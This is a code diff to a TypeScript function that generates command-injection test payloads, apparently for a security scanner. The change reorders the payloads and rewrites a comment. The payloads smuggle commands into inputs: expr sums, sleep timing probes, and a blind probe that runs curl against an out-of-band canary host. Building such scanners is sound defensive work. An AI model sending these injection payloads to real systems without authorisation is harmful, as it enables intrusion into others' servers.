@@ -26,8 +26,8 @@ const settings: readonly ((command: string) => string)[] = [
 const longCall = 150;
 
 /**
- * First what prints a sum. Then what calls the canary with whatever program there is, and waits for a second where none is; two of
- * these reach every setting but that in single quotes, which has one of its own.
+ * What calls the canary with whatever program there is, and waits for a second where none is, needs no answer that shows anything: the two of these that reach every
+ * setting are among the first three. Between them and after them comes what prints a sum, which is shorter.
  */
 export function commandPayloads(random: Random, canary: Canary, maxLength: number): readonly CommandPayload[] {
   const payload = (
@@ -41,7 +41,7 @@ export function commandPayloads(random: Random, canary: Canary, maxLength: numbe
     return { value, sum: String(a + b), tells, sleeping: (seconds) => setting(`sleep ${seconds}`) };
   };
   const printing = settings.map((setting) => payload(setting, 'output', (a, b) => `expr ${a} + ${b}`));
-  const blind = settings.slice(0, 3).map((setting) =>
+  const [bare, substituted, quoted] = settings.slice(0, 3).map((setting) =>
     payload(setting, 'canary', (a, b) => {
       const address = `${canary.authority}/$((${a}+${b}))`;
       // A name is often given 80 characters at most.
@@ -49,5 +49,6 @@ export function commandPayloads(random: Random, canary: Canary, maxLength: numbe
       return `curl -sm2 ${address}${other}||sleep 1`;
     }),
   );
-  return [...printing.slice(0, 3), ...blind, ...printing.slice(3)];
+  const mixed = [substituted, printing[0], quoted, printing[1], bare].flatMap((one) => one ?? []);
+  return [...mixed, ...printing.slice(2)];
 }
